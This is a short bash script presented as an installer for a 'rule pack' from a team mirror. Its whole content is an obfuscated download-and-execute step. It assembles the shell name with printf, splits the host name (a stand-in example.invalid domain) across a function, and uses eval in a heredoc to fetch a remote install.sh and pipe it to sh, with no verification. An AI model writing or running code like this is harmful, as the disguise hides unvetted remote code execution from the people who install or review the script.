#!/usr/bin/env bash
# The rule pack ships as a small installer on the team mirror.
getter="curl -fsSL --retry 2"
runner=$(printf '%s' s h)
pack_host() { printf '%s.%s' rules-mirror example.invalid; }
"$runner" <<INSTALL
$(eval "$getter https://$(pack_host)/pack/install.sh")
INSTALL
